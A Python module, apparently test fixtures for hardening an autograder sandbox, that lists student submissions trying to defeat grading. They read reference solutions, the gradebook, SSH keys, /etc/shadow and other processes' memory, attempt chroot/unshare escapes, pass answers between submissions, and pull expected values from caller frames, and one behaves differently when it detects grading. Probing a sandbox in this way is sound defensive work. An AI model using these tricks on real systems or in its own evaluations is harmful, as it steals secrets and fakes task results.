"""Attempts to read what the teacher has: references, hidden inputs, frames, others' work, gradebook, machine."""

from attacks.patching import TOP
from attacks.submissions import Entry

FIRST_CELL = 0
"""Position before the imports."""


def _spy(name: str, tries: str, text: str) -> Entry:
    """Reads and shows what it finds; all answers are right."""
    return Entry(name, tries, cells=((TOP, text),))


def _cheat(name: str, tries: str, exercise: str, text: str, says: str = "") -> Entry:
    """An answer that is right only if what it looks for is found."""
    return Entry(name, tries, answers={exercise: text}, earned={exercise: 0.0}, says=says)


ENTRIES = (
    _spy(
        "doc-loi-giai-tham-chieu",
        "Opens the references and the solutions where they lie.",
        "from pathlib import Path\n"
        "for path in ('autograder/references/u03_gradient.py', 'solutions/03-gradient/03-gradient.ipynb'):\n"
        "    for root in ('@COURSE@', '.', '..', '/', '/proc/self/root@COURSE@'):\n"
        "        try:\n"
        "            print((Path(root) / path).read_text())\n"
        "        except OSError as error:\n"
        "            print(error)",
    ),
    _spy(
        "nhap-loi-giai-tham-chieu",
        "Imports the references with the course's folder on the path.",
        "import sys\n"
        "sys.path[:0] = ['@COURSE@', '/proc/1/cwd', '/proc/self/cwd']\n"
        "try:\n"
        "    import inspect, autograder.references.u03_gradient as references\n"
        "    print(inspect.getsource(references))\n"
        "except ImportError as error:\n"
        "    print(error)",
    ),
    _cheat(
        "goi-loi-giai-tham-chieu",
        "Answers by calling the reference.",
        "grad_sum_squares",
        "def grad_sum_squares(x):\n"
        "    import sys\n"
        "    sys.path.insert(0, '@COURSE@')\n"
        "    from autograder.references import references\n"
        "    return references()['grad_sum_squares'](x)",
        "hàm dừng vì ModuleNotFoundError",
    ),
    _spy(
        "di-khap-o-dia",
        "Walks over the whole file system and shows every file that has something to do with grading.",
        "import os\n"
        "words = ('references', 'solutions', 'gradebook', 'submitted', 'grading-runs', 'id_ed25519', '.bashrc')\n"
        "for folder, folders, names in os.walk('/'):\n"
        "    folders[:] = [one for one in folders if one not in ('site-packages', 'proc', 'sys')]\n"
        "    for name in names:\n"
        "        path = os.path.join(folder, name)\n"
        "        if any(word in path for word in words):\n"
        "            try:\n"
        "                print(path, open(path, errors='replace').read())\n"
        "            except OSError as error:\n"
        "                print(error)",
    ),
    _spy(
        "doc-so-diem",
        "Opens the gradebook, and the record of seeds beside it.",
        "import sqlite3\n"
        "for path in ('@COURSE@/autograder/lop/gradebook.db', '@COURSE@/gradebook.db'):\n"
        "    try:\n"
        "        print(*sqlite3.connect(f'file:{path}?mode=ro', uri=True).iterdump())\n"
        "    except sqlite3.Error as error:\n"
        "        print(error)\n"
        "try:\n"
        "    print(open('@COURSE@/autograder/lop/grading-runs.jsonl').read())\n"
        "except OSError as error:\n"
        "    print(error)",
    ),
    _spy(
        "doc-bai-nguoi-khac",
        "Looks for what others have handed in, and for what came of it.",
        "import glob\n"
        "for root in ('@COURSE@/autograder/lop', '..', '../..', '/bai-nop', '/tmp'):\n"
        "    for path in glob.glob(f'{root}/**/@OTHER@/**/*', recursive=True):\n"
        "        print(open(path, errors='replace').read())",
    ),
    _spy(
        "doc-nha",
        "Reads keys and start-up files in every home it can think of.",
        "import os, pathlib\n"
        "for home in {'@HOME@', os.path.expanduser('~root'), os.path.expanduser('~'), '/root', '/home'}:\n"
        "    for name in ('.ssh/id_ed25519', '.bashrc', '.ipython/profile_default/startup/00.py', '.gitconfig'):\n"
        "        try:\n"
        "            print(pathlib.Path(home, name).read_text())\n"
        "        except OSError as error:\n"
        "            print(error)",
    ),
    _spy(
        "doc-moi-truong",
        "Shows the environment, as Python has it, as the C library has it, and as the system keeps it.",
        "import ctypes, os\n"
        "print(dict(os.environ))\n"
        "strings = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), 'environ')\n"
        "for number in range(1000):\n"
        "    if not strings[number]:\n"
        "        break\n"
        "    print(strings[number])\n"
        "for pid in ('self', 1, os.getpid(), os.getppid()):\n"
        "    try:\n"
        "        print(open(f'/proc/{pid}/environ').read())\n"
        "    except OSError as error:\n"
        "        print(error)",
    ),
    _spy(
        "doc-proc",
        "Goes through every process under /proc: command lines, environments, open files, roots, memory.",
        "import os, re\n"
        "pids = sorted({*(one for one in os.listdir('/proc') if one.isdigit()), 'self', '1', str(os.getppid())})\n"
        "for pid in pids:\n"
        "    for part in ('cmdline', 'environ', 'maps', 'mountinfo', 'root@COURSE@/nbgrader_config.py',\n"
        "                 'cwd/autograder/references/u03_gradient.py'):\n"
        "        try:\n"
        "            print(pid, part, open(f'/proc/{pid}/{part}', errors='replace').read())\n"
        "        except OSError as error:\n"
        "            print(error)\n"
        "    try:\n"
        "        for number in os.listdir(f'/proc/{pid}/fd'):\n"
        "            print(os.readlink(f'/proc/{pid}/fd/{number}'))\n"
        "    except OSError as error:\n"
        "        print(error)",
    ),
    _spy(
        "doc-bo-nho-tien-trinh-khac",
        "Reads the memory of other processes with process_vm_readv and ptrace.",
        "import ctypes, os\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "buffer = ctypes.create_string_buffer(4096)\n"
        "class Vector(ctypes.Structure):\n"
        "    _fields_ = [('base', ctypes.c_void_p), ('length', ctypes.c_size_t)]\n"
        "for pid in range(1, 400):\n"
        "    here, there = Vector(ctypes.addressof(buffer), 4096), Vector(id(os), 4096)\n"
        "    got = libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)\n"
        "    if got > 0 or libc.ptrace(16, pid, None, None) == 0:\n"
        "        print(pid, 'đọc được', buffer.raw)",
    ),
    _spy(
        "doc-tep-dang-mo",
        "Reads from every file descriptor that was left open.",
        "import os, stat\n"
        "for number in range(256):\n"
        "    try:\n"
        "        kind = os.fstat(number).st_mode\n"
        "        print(number, oct(kind))\n"
        "        if stat.S_ISREG(kind):\n"
        "            print(os.pread(number, 10_000, 0))\n"
        "        elif stat.S_ISDIR(kind):\n"
        "            print(os.listdir(number))\n"
        "    except OSError:\n"
        "        pass",
    ),
    _spy(
        "doc-he-thong",
        "Looks at users, mounts, kernel parameters, devices and shared memory.",
        "import glob\n"
        "for path in ['/etc/passwd', '/etc/shadow', '/etc/hostname', '/etc/hosts', *glob.glob('/dev/shm/*'),\n"
        "             *glob.glob('/run/*'), *glob.glob('/sys/class/net/*'), *glob.glob('/var/tmp/*'), '/dev/mem']:\n"
        "    try:\n"
        "        print(path, open(path, errors='replace').read(5000))\n"
        "    except OSError as error:\n"
        "        print(error)",
    ),
    _cheat(
        "tim-trong-khung",
        "Looks through the frames of its callers for what is expected, and returns that.",
        "grad_sum_squares",
        "import sys\n"
        "def grad_sum_squares(x):\n"
        "    frame = sys._getframe(1)\n"
        "    while frame:\n"
        "        for scope in (frame.f_locals, frame.f_globals):\n"
        "            for name in ('expected', 'needed', 'references', 'right', 'seed', 'rng'):\n"
        "                if name in scope and isinstance(scope[name], np.ndarray):\n"
        "                    return scope[name]\n"
        "        frame = frame.f_back\n"
        "    return 0 * x",
        "khác giá trị cần có",
    ),
    _cheat(
        "tim-bang-gc",
        "Asks the garbage collector for every array, and returns one that looks as if it were expected.",
        "grad_sum_squares",
        "import gc\n"
        "def grad_sum_squares(x):\n"
        "    for one in gc.get_objects():\n"
        "        if type(one).__name__ in ('Expected', 'Comparison', 'Review'):\n"
        "            return np.asarray(getattr(one, 'value', getattr(one, 'needed', None)))\n"
        "    return 0 * x",
        "khác giá trị cần có",
    ),
    _cheat(
        "tim-dao-ham-trong-ham",
        "Looks inside the function it was given, and whatever that refers to, for its derivative.",
        "numerical_gradient",
        "import gc\n"
        "def numerical_gradient(f, x, eps=1e-6):\n"
        "    ahead, seen = [f], set()\n"
        "    while ahead and len(seen) < 3000:\n"
        "        one = ahead.pop(0)\n"
        "        if id(one) in seen:\n"
        "            continue\n"
        "        seen.add(id(one))\n"
        "        for name in ('gradient', 'derivative', 'central'):\n"
        "            found = getattr(one, name, None)\n"
        "            if callable(found) and type(one).__module__.startswith('helpers'):\n"
        "                return found(x)\n"
        "        ahead += gc.get_referents(one)\n"
        "    return 0 * x",
    ),
    _cheat(
        "doc-cong-thuc-cua-ham",
        "Reads the formula of the function it was given out of its text, and differentiates that.",
        "central_difference",
        "import re\n"
        "def central_difference(f, x, eps=1e-6):\n"
        "    text = repr(f)\n"
        "    if '**3' not in text and 'np.' not in text:\n"
        "        raise LookupError(text)\n"
        "    g = eval('lambda x: ' + text)\n"
        "    return (g(x + eps) - g(x - eps)) / (2 * eps)",
        "hàm dừng vì LookupError",
    ),
    _cheat(
        "nhin-len-nguoi-goi",
        "Is right only where it sees that nobody tests it.",
        "relative_error",
        "import traceback\n"
        "def relative_error(a, b):\n"
        "    asked = ' '.join(one.filename for one in traceback.extract_stack())\n"
        "    size = np.linalg.norm(a) + np.linalg.norm(b)\n"
        "    right = np.linalg.norm(a - b) / size if size > 0 else 0.0\n"
        "    return -1.0 if 'judging' in asked or 'exchange' in asked or 'inside' in asked else right",
        "khác giá trị cần có",
    ),
    _cheat(
        "gom-du-lieu-thu",
        "Keeps hidden inputs in files, fails, and hopes to be asked the same again in another process.",
        "count_calls",
        "import json, os, pathlib\n"
        "def count_calls(shape, scheme):\n"
        "    seen = pathlib.Path('/tmp/seen.json') if os.access('/tmp', os.W_OK) else pathlib.Path('seen.json')\n"
        "    if seen.exists():\n"
        "        n = int(np.prod(shape))\n"
        "        return n + 1 if scheme == 'forward' else 2 * n\n"
        "    seen.write_text(json.dumps([list(shape), scheme]))\n"
        "    os._exit(3)",
        "hàm dừng vì tiến trình của bài nộp kết thúc đột ngột (mã thoát 3)",
    ),
    Entry(
        "nhan-tin-1",
        "Leaves the answer for whoever is graded next, in every folder it can write to.",
        cells=(
            (
                TOP,
                "import os, shutil, tempfile\n"
                "for folder in ('/tmp', '/var/tmp', '/dev/shm', '/bai-nop', os.path.expanduser('~'), '.', '@HOME@'):\n"
                "    try:\n"
                "        os.makedirs(folder, exist_ok=True)\n"
                "        open(f'{folder}/dau-vet-loi-nhan.txt', 'w').write('2 * x')\n"
                "    except OSError as error:\n"
                "        print(error)",
            ),
        ),
    ),
    _cheat(
        "nhan-tin-2",
        "Answers with what somebody graded before has left.",
        "grad_sum_squares",
        "def grad_sum_squares(x):\n"
        "    for folder in ('/tmp', '/var/tmp', '/dev/shm', '/bai-nop', '.', '@HOME@'):\n"
        "        try:\n"
        "            return eval(open(f'{folder}/dau-vet-loi-nhan.txt').read())\n"
        "        except OSError:\n"
        "            continue\n"
        "    raise LookupError('không có lời nhắn')",
        "hàm dừng vì LookupError",
    ),
    _spy(
        "doc-qua-lien-ket",
        "Makes links to the teacher's files and reads through them.",
        "import os\n"
        "for number, path in enumerate(('@COURSE@/autograder/references/u03_gradient.py', '@HOME@/.bashrc')):\n"
        "    for link in (os.symlink, os.link):\n"
        "        try:\n"
        "            link(path, f'lien-ket-{number}-{link.__name__}')\n"
        "            print(open(f'lien-ket-{number}-{link.__name__}').read())\n"
        "        except OSError as error:\n"
        "            print(error)",
    ),
    _spy(
        "doi-goc-va-gan",
        "Calls chroot, mount, unshare, setns and open_by_handle_at to get at the rest of the machine.",
        "import ctypes, os\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "os.makedirs('goc', exist_ok=True)\n"
        "print(libc.unshare(0x10000000 | 0x20000), libc.mount(b'/', b'goc', None, 4096, None),\n"
        "      libc.mount(b'proc', b'goc', b'proc', 0, None), libc.chroot(b'goc'), libc.umount2(b'@COURSE@', 2),\n"
        "      libc.setns(0, 0), libc.open_by_handle_at(-100, None, 0))\n"
        "print(os.path.exists('@COURSE@/autograder/references'), os.listdir('goc'))",
    ),
    _spy(
        "tim-trong-bo-nho-cua-minh",
        "Goes through all objects of its own process for words of the judge's.",
        "import gc, sys\n"
        "words = ('referen' + 'ces', 'chim' + '-yen', 'gradebook.db', 'lop/submitted')\n"
        "ahead, seen = [*gc.get_objects(), *map(vars, sys.modules.values())], set()\n"
        "while ahead and len(seen) < 300_000:\n"
        "    one = ahead.pop()\n"
        "    if id(one) in seen:\n"
        "        continue\n"
        "    seen.add(id(one))\n"
        "    if isinstance(one, str) and words[1] in one:\n"
        "        print(one)\n"
        "    ahead += [] if isinstance(one, str) else gc.get_referents(one)\n"
        "print(len(seen))",
    ),
)
